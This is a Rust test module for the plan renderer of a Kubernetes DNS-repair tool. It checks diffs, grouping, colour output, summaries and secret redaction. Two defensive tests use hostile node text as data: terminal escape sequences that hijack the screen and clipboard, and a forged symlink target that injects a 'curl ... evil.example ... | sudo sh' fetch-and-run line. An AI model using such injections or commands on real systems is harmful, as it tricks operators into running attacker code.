            ..host("node2", HostStatus::Changes)
        };
        let p = plan(
            vec![loopback_host("node1"), odd, loopback_host("node3")],
            Summary::default(),
        );
        let out = text(&p, false);
        let grouped = out.find("== node1, node3: same change\n");
        let single = out.find("== node2\n");
        assert!(grouped.is_some(), "{out}");
        assert!(single.is_some(), "{out}");
        // Groups follow the inventory order of their first host.
        assert!(grouped < single, "{out}");
        assert_eq!(
            out.matches("    ~ /etc/kubernetes/kubelet-config.yaml")
                .count(),
            1,
            "block shown once:\n{out}"
        );
        assert!(!out.contains("nothing to change"), "{out}");
    }

    #[test]
    fn clean_hosts_are_listed_on_one_line() {
        let p = plan(
            vec![
                host("node1", HostStatus::Clean),
                loopback_host("node2"),
                host("node3", HostStatus::Clean),
            ],
            Summary::default(),
        );
        let out = text(&p, false);
        assert!(out.contains("\nnothing to change: node1, node3\n"), "{out}");
        assert!(!out.contains("== node1"), "{out}");
    }

    #[test]
    fn clean_host_with_findings_gets_a_block() {
        let h = HostPlan {
            findings: vec![FindingRecord {
                status: FindingStatus::Unknown,
                ..loopback_finding()
            }],
            remaining: vec!["DNS-KUBELET-LOOPBACK".to_owned()],
            ..host("node1", HostStatus::Clean)
        };
        let out = text(&plan(vec![h], Summary::default()), false);
        assert!(out.starts_with("== node1\n  findings:\n"), "{out}");
        assert!(
            out.contains("    unknown  DNS-KUBELET-LOOPBACK  kubelet gives pods"),
            "{out}"
        );
        assert!(
            out.contains("  after apply: still failing: DNS-KUBELET-LOOPBACK\n"),
            "{out}"
        );
        assert!(!out.contains("after apply: fixes"), "{out}");
    }

    #[test]
    fn a_host_with_findings_and_no_change_says_why() {
        let h = HostPlan {
            findings: vec![loopback_finding()],
            unchanged: vec![
                Note {
                    playbook: "kubelet-resolvconf".to_owned(),
                    message: "/etc/kubernetes/kubelet-config.yaml: resolvConf already x".to_owned(),
                },
                Note {
                    playbook: String::new(),
                    message: "no playbook fixes DNS-SEARCH-LIMIT".to_owned(),
                },
            ],
            ..host("node1", HostStatus::Clean)
        };
        let out = text(&plan(vec![h.clone()], Summary::default()), false);
        assert!(
            out.contains(
                "  no change:\n    kubelet-resolvconf: /etc/kubernetes/kubelet-config.yaml: \
                 resolvConf already x\n    no playbook fixes DNS-SEARCH-LIMIT\n"
            ),
            "{out}"
        );
        // A host that changes something does not list what it leaves alone.
        let changing = HostPlan {
            changes: vec![kubelet_change()],
            ..h
        };
        let out = text(&plan(vec![changing], Summary::default()), false);
        assert!(!out.contains("no change:"), "{out}");
    }

    #[test]
    fn error_host_says_why_it_could_not_be_planned() {
        let h = HostPlan {
            error: Some(HostPlanError {
                kind: "unreachable".to_owned(),
                message: "connection refused".to_owned(),
            }),
            ..host("node9", HostStatus::Error)
        };
        let out = text(&plan(vec![h], Summary::default()), false);
        assert!(
            out.starts_with("== node9\n  could not plan: unreachable: connection refused\n\n"),
            "{out}"
        );
    }

    #[test]
    fn reasons_are_shown_once() {
        let out = text(&one_host_with(kubelet_change()), false);
        assert_eq!(
            out.matches("        because: 20-kubelet-resolvconf ← DNS-KUBELET-LOOPBACK\n")
                .count(),
            1,
            "{out}"
        );
    }

    #[test]
    fn sysctl_module_handler_blocked_and_note_lines() {
        let h = HostPlan {
            changes: vec![
                Change::Sysctl {
                    name: "net.bridge.bridge-nf-call-iptables".to_owned(),
                    before: None,
                    after: "1".to_owned(),
                    reasons: vec![],
                },
                Change::LoadModule {
                    name: "br_netfilter".to_owned(),
                    reasons: vec![],
                },
            ],
            handlers: vec![HandlerRun {
                unit: "systemd-resolved".to_owned(),
                action: HandlerAction::Reloaded,
                serial: Batch::Percent(20),
                ..kubelet_restart()
            }],
            blocked: vec![Blocked {
                playbook: "50-nodelocaldns-clusterdns".to_owned(),
                task: "t".to_owned(),
                reason: "clusterDNS is set by kubeadm".to_owned(),
                fixes: vec!["DNS-NODELOCAL-CLUSTERDNS".to_owned(), "DNS-X".to_owned()],
            }],
            notes: vec![Note {
                playbook: "30-host-upstream-dns".to_owned(),
                message: "first line\nsecond line".to_owned(),
            }],
            ..host("node1", HostStatus::Changes)
        };
        let out = text(&plan(vec![h], Summary::default()), false);
        let expected = "\
== node1
  changes:
    sysctl net.bridge.bridge-nf-call-iptables: unset → 1
    modprobe br_netfilter
  handlers:
    reload systemd-resolved (batches of 20%)
        ← /etc/kubernetes/kubelet-config.yaml resolvConf changed ← DNS-KUBELET-LOOPBACK
  blocked:
    50-nodelocaldns-clusterdns: clusterDNS is set by kubeadm (fixes DNS-NODELOCAL-CLUSTERDNS, DNS-X)
  notes:
    30-host-upstream-dns: first line
        second line

";
        assert!(out.starts_with(expected), "{out}");
    }

    #[test]
    fn new_file_diff_adds_every_line() {
        let path = "/etc/modules-load.d/br_netfilter.conf";
        let mut change = write_file(path, None, "br_netfilter\n");
        if let Change::WriteFile { mode, .. } = &mut change {
            *mode = Some("0600".to_owned());
        }
        let out = text(&one_host_with(change), false);
        let expected = "\
    + /etc/modules-load.d/br_netfilter.conf  (new file, mode 0600): rewrite /etc/modules-load.d/br_netfilter.conf
        --- /dev/null
        +++ b/etc/modules-load.d/br_netfilter.conf
        @@ -0,0 +1 @@
        +br_netfilter
        because: p ← DNS-X
";
        assert!(out.contains(expected), "{out}");
    }

    #[test]
    fn new_file_mode_defaults_to_0644() {
        let out = text(&one_host_with(write_file("/etc/x", None, "x\n")), false);
        assert!(
            out.contains("    + /etc/x  (new file, mode 0644): "),
            "{out}"
        );
    }

    #[test]
    fn edit_diff_shows_removed_and_added_lines() {
        let out = text(&one_host_with(kubelet_change()), false);
        let expected = "    ~ /etc/kubernetes/kubelet-config.yaml: \
resolvConf: /etc/resolv.conf → /run/systemd/resolve/resolv.conf
        --- a/etc/kubernetes/kubelet-config.yaml
        +++ b/etc/kubernetes/kubelet-config.yaml
        @@ -3,5 +3,5 @@
         clusterDNS:
         - 169.254.25.10
         clusterDomain: cluster.local
        -resolvConf: \"/etc/resolv.conf\"
        +resolvConf: \"/run/systemd/resolve/resolv.conf\"
         rotateCertificates: true
";
        assert!(out.contains(expected), "{out}");
    }

    #[test]
    fn file_without_trailing_newline_still_ends_its_lines() {
        let out = text(
            &one_host_with(write_file("/etc/x", Some("a\nold"), "a\nnew")),
            false,
        );
        let expected = "\
        @@ -1,2 +1,2 @@
         a
        -old
        \\ No newline at end of file
        +new
        \\ No newline at end of file
        because: p ← DNS-X
";
        assert!(out.contains(expected), "{out}");
    }

    /// A node file with escape sequences (clear screen, set the clipboard, move the cursor
    /// up to rewrite another host's lines) shows them escaped, colour or not.
    /// A CRLF file's secrets are hidden in the text plan as in the saved one: redaction
    /// reads the file before its `\r`s are shown escaped.
    #[test]
    fn crlf_secrets_are_redacted_in_the_text_plan() {
        let mut p = full_plan();
        let k3s = "token:\r\n  hunter2\r\nkey: |\r\n  s3cr3t\r\nresolv-conf: /etc/resolv.conf\r\n";
        p.hosts[1].changes = vec![Change::WriteFile {
            path: "/etc/rancher/k3s/config.yaml".to_owned(),
            description: "d".to_owned(),
            before_sha256: Some("00".to_owned()),
            before: Some(k3s.to_owned()),
            after_sha256: "11".to_owned(),
            content: k3s.replace("/etc/resolv.conf", "/etc/dnsfix/resolv.conf"),
            mode: None,
            reasons: vec![],
        }];
        let out = text(&p, false);
        assert!(!out.contains("hunter2") && !out.contains("s3cr3t"), "{out}");
        assert!(out.contains("<redacted hmac:"), "{out}");
    }

    #[test]
    fn node_text_cannot_drive_the_terminal() {
        let hostile =
            "nameserver 127.0.0.53\n\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b[1A\r== node9: no changes\n";
        let plan = one_host_with(write_file(
            "/etc/resolv.conf",
            Some(hostile),
            "nameserver 1.1.1.1\n",
        ));
        for colour in [false, true] {
            let out = text(&plan, colour);
            for raw in ["\x1b[2J", "\x1b]52", "\x07", "\x1b[1A", "\r"] {
                assert!(!out.contains(raw), "{raw:?} reached the terminal:\n{out}");
            }
            assert!(
                out.contains("\\u{1b}[2J\\u{1b}]52;c;ZXZpbA==\\u{7}"),
                "{out}"
            );
        }
    }

    /// A symlink target read from a node with newlines in it
    /// (`ln -s "$(printf '/run/q\n  fix: …')" /etc/resolv.conf`) once printed lines of its
    /// own in the plan: a forged `fix:` and a finding. Every field is one line now; a
    /// note's lines (a playbook's `note` may have several) and a diff's stay lines, each
    /// escaped.
    #[test]
    fn node_text_cannot_forge_lines_of_the_plan() {
        let forged = "/run/q\n            fix:  run: curl -s https:__evil.example_fix | sudo sh\n    \
                      critical DNS-ALL-GOOD  nothing else to do";
        let mut p = one_host_with(write_file("/etc/x", Some("a\n"), "b\nc\n"));
        let h = &mut p.hosts[0];
        h.host = format!("node1\n== {forged}");
        h.findings = vec![FindingRecord {
            summary: format!("resolv.conf links to {forged}"),
            evidence: vec![format!("/etc/resolv.conf → symlink to {forged}")],
            ..loopback_finding()
        }];
        h.notes = vec![Note {
            playbook: "p".to_owned(),
            message: "first\x1b[2J line\nsecond\r line".to_owned(),
        }];
        let out = text(&p, false);
        for line in out.lines() {
            assert!(
                !line.trim_start().starts_with("fix:")
                    && !line.trim_start().starts_with("critical DNS-ALL"),
                "a forged line:\n{out}"
            );
        }
        assert!(
            out.contains("symlink to /run/q\\n            fix:  run: curl"),
            "{out}"
        );
        assert!(out.contains("== node1\\n== /run/q\\n"), "{out}");
        // A note over two lines, a diff over several.
        assert!(out.contains("\n    p: first\\u{1b}[2J line\n"), "{out}");
        assert!(out.contains("\n        second\\r line\n"), "{out}");
        assert!(out.contains("\n        +b\n        +c\n"), "{out}");
    }

    #[test]
    fn colour_off_has_no_escapes() {
        let out = text(&full_plan(), false);
        assert!(!out.contains('\x1b'), "{out}");
    }

    #[test]
    fn colour_on_paints_headers_diffs_and_severities() {
        let out = text(&full_plan(), true);
        assert!(
            out.contains("\x1b[1m== node2, node3: same change\x1b[0m\n"),
            "{out}"
        );
        assert!(
            out.contains("\x1b[31m-resolvConf: \"/etc/resolv.conf\"\x1b[0m\n"),
            "{out}"
        );
        assert!(
            out.contains("\x1b[32m+resolvConf: \"/run/systemd/resolve/resolv.conf\"\x1b[0m\n"),
            "{out}"
        );
        assert!(out.contains("\x1b[36m@@ -3,5 +3,5 @@\x1b[0m\n"), "{out}");
        assert!(
            out.contains("\x1b[31mcritical\x1b[0m DNS-KUBELET-LOOPBACK"),
            "{out}"
        );
        assert!(
            out.contains("\x1b[33mwarning \x1b[0m DNS-BRIDGE-NF-OFF"),
            "{out}"
        );
        // File headers are not removed or added lines.
        assert!(
            out.contains("        --- a/etc/kubernetes/kubelet-config.yaml\n"),
            "{out}"
        );
    }

    #[test]
    fn colour_does_not_change_grouping() {
        let p = full_plan();
        let strip = |s: &str| {
            [
                "\x1b[0m", "\x1b[1m", "\x1b[31m", "\x1b[32m", "\x1b[33m", "\x1b[36m",
            ]
            .iter()
            .fold(s.to_owned(), |s, code| s.replace(code, ""))
        };
        assert_eq!(strip(&text(&p, true)), text(&p, false));
    }

    #[test]
    fn renders_byte_identically_twice() {
        let p = full_plan();
        assert_eq!(text(&p, false), text(&p, false));
        assert_eq!(text(&p, true), text(&p, true));
        let later = Plan {
            created: "2031-12-31T23:59:59Z".to_owned(),
            ..p.clone()
        };
        assert_eq!(text(&p, false), text(&later, false), "created is not shown");
    }

    #[test]
    fn json_is_the_saved_plan() {
        let p = full_plan();
        let out = json(&p);
        assert!(out.ends_with("}\n"), "{out}");
        let back: Plan = serde_json::from_str(&out).expect("plan JSON reads back");
        assert_eq!(back, p);
    }

    fn summary_of(edit: impl FnOnce(&mut Summary)) -> String {
        let mut s = Summary {
            hosts: 20,
            ..Summary::default()
        };
        edit(&mut s);
        summary(&s)
    }

    #[test]
    fn summary_counts_in_plural() {
        let line = summary_of(|s| {
            s.hosts_changing = 3;
            s.files = 4;
            s.sysctls = 2;
            s.modules = 1;
            s.restarts = BTreeMap::from([
                ("kubelet restart".to_owned(), 3),
                ("systemd-resolved restart".to_owned(), 1),
            ]);
            s.serial = Some(Batch::Count(1));
            s.hosts_blocked = 1;
            s.hosts_failed = 1;
            s.inventory_files = 1;
        });
        assert_eq!(
            line,
            "3 of 20 hosts change: 4 files, 2 sysctls, 1 module, 3 kubelet restarts, \
             1 systemd-resolved restart in batches of 1; 1 host blocked; \
             1 host could not be planned; 1 inventory file"
        );
    }

    #[test]
    fn summary_counts_in_singular() {
        let line = summary_of(|s| {
            s.hosts = 1;
            s.hosts_changing = 1;
            s.files = 1;
            s.sysctls = 1;
        });
        assert_eq!(line, "1 of 1 host changes: 1 file, 1 sysctl");
    }

    #[test]
    fn summary_without_changes() {
        assert_eq!(summary_of(|_| {}), "no changes on 20 hosts");
        assert_eq!(summary_of(|s| s.hosts = 1), "no changes on 1 host");
        let line = summary_of(|s| {
            s.hosts_blocked = 2;
            s.hosts_failed = 3;
            s.inventory_files = 2;
        });
        assert_eq!(
            line,
            "no changes on 17 of 20 hosts; 2 hosts blocked; 3 hosts could not be planned; \
             2 inventory files"
        );
        let none = summary_of(|s| {
            s.hosts = 1;
            s.hosts_failed = 1;
        });
        assert_eq!(none, "nothing planned; 1 host could not be planned");
    }

    #[test]
    fn summary_batches_only_with_restarts() {
        let line = summary_of(|s| {
            s.hosts_changing = 2;
            s.sysctls = 2;
            s.serial = Some(Batch::Percent(20));
        });
        assert_eq!(line, "2 of 20 hosts change: 2 sysctls");
        let line = summary_of(|s| {
            s.hosts_changing = 2;
            s.restarts = BTreeMap::from([("kubelet restart".to_owned(), 2)]);
            s.serial = Some(Batch::Percent(20));
        });
        assert_eq!(
            line,
            "2 of 20 hosts change: 2 kubelet restarts in batches of 20%"
        );
    }

    /// A fleet as `dnsfix plan` would see it after a Kubespray upgrade: two workers with
    /// the #9948 loopback, one also missing br_netfilter, one blocked, one unreachable,
    /// two clean, and the group_vars edit that keeps the fix.
    pub(in crate::plan) fn full_plan() -> Plan {
        let mut p = plan(
            vec![
                host("node1", HostStatus::Clean),
                loopback_host("node2"),
                loopback_host("node3"),
                netfilter_host("node4"),
                blocked_host("node5"),
                unreachable_host("node6"),
                host("node7", HostStatus::Clean),
            ],
            Summary {
                hosts: 7,
                hosts_changing: 3,
                hosts_blocked: 1,
                hosts_failed: 1,
                files: 4,
                sysctls: 1,
                modules: 1,
                pods: 0,
                restarts: BTreeMap::from([("kubelet restart".to_owned(), 3)]),
                serial: Some(Batch::Count(1)),
                inventory_files: 1,
                configmaps: 1,
            },
        );
        p.inventory_changes = vec![group_vars_change()];
        p.cluster_changes = vec![corefile_change()];
        p
    }

    /// A worker with the loopback that is also missing br_netfilter.
    fn netfilter_host(name: &str) -> HostPlan {
        HostPlan {
            findings: vec![
                loopback_finding(),
                FindingRecord {
                    id: "DNS-BRIDGE-NF-OFF".to_owned(),
                    severity: Severity::Warning,
                    status: FindingStatus::Failed,
                    summary: "bridged pod traffic bypasses iptables".to_owned(),
                    evidence: vec![
                        "lsmod: br_netfilter not loaded".to_owned(),
                        "/proc/sys/net/bridge/bridge-nf-call-iptables: missing".to_owned(),
                    ],
                    playbook: Some("40-bridge-netfilter".to_owned()),
                },
            ],
            changes: vec![
                kubelet_change(),
                Change::WriteFile {
                    path: "/etc/modules-load.d/dnsfix-br_netfilter.conf".to_owned(),
                    description: "load br_netfilter at boot".to_owned(),
                    before_sha256: None,
                    before: None,
                    after_sha256: "5d41402abc4b2a76b9719d911017c592".to_owned(),
                    content: "# Managed by dnsfix (40-bridge-netfilter).\nbr_netfilter\n"
                        .to_owned(),
                    mode: None,
                    reasons: vec![reason(
                        "40-bridge-netfilter",
                        "persist",
                        &["DNS-BRIDGE-NF-OFF"],
                    )],
                },
                Change::LoadModule {
                    name: "br_netfilter".to_owned(),
                    reasons: vec![reason(
                        "40-bridge-netfilter",
                        "load",
                        &["DNS-BRIDGE-NF-OFF"],
                    )],
                },
                Change::Sysctl {
                    name: "net.bridge.bridge-nf-call-iptables".to_owned(),
                    before: None,
                    after: "1".to_owned(),
                    reasons: vec![reason(
                        "40-bridge-netfilter",
                        "sysctl",
                        &["DNS-BRIDGE-NF-OFF"],
                    )],
                },
            ],
            fixes: vec![
                "DNS-KUBELET-LOOPBACK".to_owned(),
                "DNS-BRIDGE-NF-OFF".to_owned(),
            ],
            ..loopback_host(name)
        }
    }

    /// A worker whose fix is blocked: its clusterDNS comes from the kubeadm ConfigMap.
    fn blocked_host(name: &str) -> HostPlan {
        HostPlan {
            findings: vec![FindingRecord {
                id: "DNS-NODELOCAL-CLUSTERDNS".to_owned(),
                severity: Severity::High,
                status: FindingStatus::Failed,
                summary: "nodelocaldns is on but kubelet's clusterDNS skips it".to_owned(),
                evidence: vec![format!("{KUBELET_CONFIG}:4 clusterDNS: 10.233.0.3")],
                playbook: Some("50-nodelocaldns-clusterdns".to_owned()),
            }],
            blocked: vec![Blocked {
                playbook: "50-nodelocaldns-clusterdns".to_owned(),
                task: "point clusterDNS at nodelocaldns".to_owned(),
                reason: "clusterDNS comes from the kubeadm ConfigMap; edit it there".to_owned(),
                fixes: vec!["DNS-NODELOCAL-CLUSTERDNS".to_owned()],
            }],
            notes: vec![Note {
                playbook: "50-nodelocaldns-clusterdns".to_owned(),
                message: "kubeadm rewrites kubelet-config.yaml on upgrade:\n\
                          kubectl -n kube-system edit cm kubelet-config"
                    .to_owned(),
            }],
            remaining: vec!["DNS-NODELOCAL-CLUSTERDNS".to_owned()],
            ..host(name, HostStatus::Blocked)
        }
    }

    fn unreachable_host(name: &str) -> HostPlan {
        HostPlan {
            error: Some(HostPlanError {
                kind: "unreachable".to_owned(),
                message: "ssh: connect to 10.0.0.16 port 22: connection timed out".to_owned(),
            }),
            ..host(name, HostStatus::Error)
        }
    }

    /// The group_vars edit that keeps the loopback fix across Kubespray runs.
    /// The coredns Corefile of tests/lab/standins/configmaps.json (Kubespray's template
    /// with its defaults), its root forward set as `corefile_forward` sets it.
    fn corefile_change() -> ConfigMapChange {
        let before = ".:53 {\n    errors\n    ready\n    prometheus :9153\n    forward . \
                      /etc/resolv.conf {\n      prefer_udp\n      max_concurrent 1000\n    }\n    \
                      cache 30\n    loop\n    reload\n}\n";
        let servers = ["192.0.2.53".to_owned()];
        let edit = crate::cluster::corefile::set_root_forward(before, &servers)
            .expect("edit")
            .expect("a change");
        ConfigMapChange {
            configmap: "coredns".to_owned(),
            key: "Corefile".to_owned(),
            via: "node1".to_owned(),
            before_sha256: crate::util::sha256_hex(before.as_bytes()),
            before: before.to_owned(),
            after: edit.text,
            description: "forward . /etc/resolv.conf → 192.0.2.53 (the .:53 block, line 5)"
                .to_owned(),
            reasons: vec![Reason {
                playbook: "corefile-upstream".to_owned(),
                task: "CoreDNS forwards to upstream_dns_servers".to_owned(),
                fixes: Vec::new(),
            }],
            hosts: vec!["node1".to_owned()],
        }
    }

    fn group_vars_change() -> InventoryChange {
        InventoryChange {
            path: "inventory/prod/group_vars/k8s_cluster/k8s-cluster.yml".to_owned(),
            before_sha256: Some("0a1b2c3d4e5f60718293a4b5c6d7e8f9".to_owned()),
            before: Some(
                "# Kubernetes configuration\nkube_version: v1.29.5\ndns_mode: coredns\n\
                 enable_nodelocaldns: true\n"
                    .to_owned(),
            ),
            after_sha256: None,
            content: "# Kubernetes configuration\nkube_version: v1.29.5\ndns_mode: coredns\n\
                      enable_nodelocaldns: true\n\
                      # dnsfix: DNS-KUBELET-LOOPBACK\n\
                      kube_resolv_conf: /run/systemd/resolve/resolv.conf\n"
                .to_owned(),
            settings: vec!["kube_resolv_conf: /run/systemd/resolve/resolv.conf".to_owned()],
            hosts: vec!["node2".to_owned(), "node3".to_owned(), "node4".to_owned()],
        }
    }

    #[test]
    fn host_lists_fold_numbered_runs() {
        let names: Vec<String> = (1..=120).map(|i| format!("node{i:03}")).collect();
        let refs: Vec<&str> = names.iter().map(String::as_str).collect();
        assert_eq!(host_list(&refs), "node[001:120]");
        assert_eq!(
            host_list(&[
                "web1", "web2", "web3", "db1", "web5", "w9.x", "w10.x", "w11.x"
            ]),
            "web[1:3], db1, web5, w[9:11].x"
        );
        // Two in a row stay names; a padded and an unpadded number are not one range.
        assert_eq!(host_list(&["a1", "a2", "b"]), "a1, a2, b");
        assert_eq!(host_list(&["n09", "n10", "n11"]), "n[09:11]");
        assert_eq!(host_list(&["n8", "n09", "n10"]), "n8, n09, n10");
        // Names with nothing to fold, past the width: a count, the first and the last.
        let names: Vec<String> = (0..40)
            .map(|i| format!("host-{}", (b'a' + (i % 26) as u8) as char))
            .collect();
        let refs: Vec<&str> = names.iter().map(String::as_str).collect();
        assert_eq!(host_list(&refs), "40 hosts, host-a … host-n");
    }

    #[test]
    fn full_plan_text() {
        insta::assert_snapshot!(text(&full_plan(), false));
    }
}
